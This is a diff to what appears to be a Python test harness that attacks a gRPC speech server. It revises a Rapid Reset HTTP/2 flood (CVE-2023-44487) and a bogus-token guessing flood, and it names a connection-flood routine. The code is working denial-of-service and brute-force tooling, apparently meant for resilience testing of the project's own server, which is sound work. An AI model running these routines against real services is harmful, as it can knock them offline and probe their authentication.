@@ -19,7 +19,7 @@ from hearken import AsyncClient, AuthenticationFailed, ConnectionFailed
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
-_END_HEADERS = 0x4
+_ACK, _END_HEADERS = 0x1, 0x4
 _CANCEL = 8
 _MAX_FRAME_BYTES = 16_384
 METHOD = b"/hearken.v1.Speech/StreamingRecognize"
@@ -27,6 +27,7 @@ OWN_CONNECTION = [("grpc.use_local_subchannel_pool", 1)]
 """Otherwise gRPC lets all clients of a process, good and bad, use the same one."""
 
 _CLOSED_S = 20.0
+_GUESSES_AT_A_TIME = 200
 
 
 @dataclass(frozen=True)
@@ -177,13 +178,19 @@ async def connect_flood(port: int, count: int = 1000, a_second: float = 5000) ->
     return await _many(count, one, at_a_time=200)
 
 
-async def rapid_reset(port: int, count: int = 5000) -> Seen:
-    """Requests that are cancelled as soon as they are made (CVE-2023-44487)."""
+async def rapid_reset(port: int, count: int = 5000, *, obeys: bool = False) -> Seen:
+    """Requests that are cancelled as soon as they are made (CVE-2023-44487).
+
+    obeys: confirms the server's settings. Who does not may make as many requests as one connection may have at a time.
+    """
     block = _headers()
     begun = 0
     async with _connected(port) as (reader, writer):
-        closed = asyncio.create_task(_until_closed(reader))
         await _send(writer, _PREFACE + _frame(_SETTINGS, 0, 0))
+        if obeys:
+            await reader.read(65536)
+            await _send(writer, _frame(_SETTINGS, _ACK, 0))
+        closed = asyncio.create_task(_until_closed(reader))
         for number in range(count):
             stream = 2 * number + 1
             begun += 1
@@ -241,18 +248,31 @@ async def half_open(port: int, messages: list[bytes], token: str = "") -> Seen:
     return Seen(1)
 
 
-async def wrong_tokens(address: str, count: int, a_second: float, **connection: Any) -> Seen:
-    """Calls with tokens that nobody has, over a few connections."""
-    began_s = time.monotonic()
-    refused = 0
+async def wrong_tokens(
+    address: str,
+    count: int,
+    a_second: float,
+    *,
+    connections: int = 8,
+    patience_s: float = 60.0,
+    **connection: Any,
+) -> Seen:
+    """Calls with tokens that nobody has. patience_s: how long answers are waited for after the last call's time.
 
-    async def guess(number: int, client: AsyncClient) -> None:
-        nonlocal refused
+    Of each connection so many calls wait for an answer at a time; where the server is slow, calls are late or not made.
+    """
+    began_s = time.monotonic()
+    begun = refused = 0
+
+    async def guess(number: int, client: AsyncClient, places: asyncio.Semaphore) -> None:
+        nonlocal begun, refused
         await asyncio.sleep(max(0.0, began_s + number / a_second - time.monotonic()))
-        try:
-            await client.models(timeout_s=None)
-        except (AuthenticationFailed, ConnectionFailed):  # also where the connection has too many calls
-            refused += 1
+        async with places:
+            begun += 1
+            try:
+                await client.models(timeout_s=None)
+            except (AuthenticationFailed, ConnectionFailed):  # also where the connection has too many calls
+                refused += 1
 
     async with contextlib.AsyncExitStack() as stack:
         clients = [
@@ -265,7 +285,15 @@ async def wrong_tokens(address: str, count: int, a_second: float, **connection: 
                     **connection,
                 )
             )
-            for number in range(8)
+            for number in range(connections)
         ]
-        await asyncio.gather(*(guess(number, clients[number % len(clients)]) for number in range(count)))
-    return Seen(count, refused)
+        places = [asyncio.Semaphore(_GUESSES_AT_A_TIME) for _ in clients]
+        guesses = [
+            asyncio.create_task(guess(number, clients[number % connections], places[number % connections]))
+            for number in range(count)
+        ]
+        _, late = await asyncio.wait(guesses, timeout=count / a_second + patience_s)
+        for task in late:
+            task.cancel()
+        await asyncio.gather(*late, return_exceptions=True)
+    return Seen(begun, refused)
